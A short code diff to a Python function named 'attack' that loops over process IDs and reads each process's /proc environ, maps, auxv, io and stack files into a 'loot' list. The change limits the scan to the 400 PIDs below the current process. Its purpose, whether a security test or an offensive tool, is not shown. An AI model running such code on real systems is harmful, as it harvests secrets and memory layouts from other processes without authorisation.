@@ -1,7 +1,7 @@
 # tries: environments, command lines and maps of every process
 def attack(keys, j):
     loot = []
-    for pid in range(1, 1 << 15):
+    for pid in range(max(1, os.getpid() - 400), os.getpid()):
         for name in ("environ", "maps", "auxv", "io", "stack"):
             try:
                 loot.append(open(f"/proc/{pid}/{name}", "rb").read(1 << 16))
